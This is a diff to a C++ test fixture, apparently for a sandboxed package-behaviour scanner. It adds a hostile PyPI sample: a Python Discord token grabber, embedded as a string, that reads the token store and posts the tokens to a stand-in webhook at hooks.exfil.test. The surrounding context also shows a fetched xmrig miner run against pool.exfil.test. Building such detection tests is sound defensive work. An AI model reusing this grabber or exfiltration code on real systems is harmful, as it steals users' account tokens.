@@ -58,7 +58,7 @@ struct HostilePackage {
   std::vector<ExpectedFinding> findings;  // empty: the package must give none at all
 };
 
-// The four hostile packages of the issue, then a native package whose build fails for want of
+// The four hostile packages of the issue, a token grabber that sends over HTTPS, then a native package whose build fails for want of
 // a compiler (no finding) and an ordinary one (none either).
 inline std::vector<HostilePackage> hostile_packages() {
   std::vector<HostilePackage> out;
@@ -120,6 +120,26 @@ inline std::vector<HostilePackage> hostile_packages() {
                    {{"behavior-downloaded-program-run", core::Severity::kHigh,
                      "at install, ran a program it had fetched: /work/tmp/xmrig -o pool.exfil.test:3333"},
                     {"behavior-network-at-install", core::Severity::kMedium, "dl.exfil.test"}}});
+  }
+  {
+    // A Discord token grabber as they are written: the token store's lines searched for the
+    // token, then posted to a webhook with requests, over HTTPS (read in the clear by the
+    // sink's TLS server).
+    const std::string init =
+        "import os, re, requests\n"
+        "store = os.path.expanduser('~/.config/discord/Local Storage/leveldb')\n"
+        "tokens = []\n"
+        "for name in os.listdir(store):\n"
+        "    tokens += re.findall(r'[A-Za-z0-9_.-]{20,}', open(os.path.join(store, name), errors='ignore').read())\n"
+        "requests.post('https://hooks.exfil.test/api/webhooks/1', json={'content': ' '.join(tokens)}, timeout=5)\n";
+    out.push_back({"an import that posts a Discord token to a webhook over HTTPS",
+                   core::PackageKind::kPypi,
+                   behavior_sdist("grabber", {file("setup.py", behavior_setup_py("grabber", "")),
+                                              file("grabber/__init__.py", init)}),
+                   {{"behavior-canary-sent", core::Severity::kCritical,
+                     "at import, sent a decoy credential's canary to hooks.exfil.test:443 (POST /api/webhooks/1 "
+                     "HTTP/1.1)"},
+                    {"behavior-token-store-read", core::Severity::kHigh, "at import, read a decoy discord-token-store"}}});
   }
   out.push_back({"a native package whose build fails without a compiler",
                  core::PackageKind::kPypi,
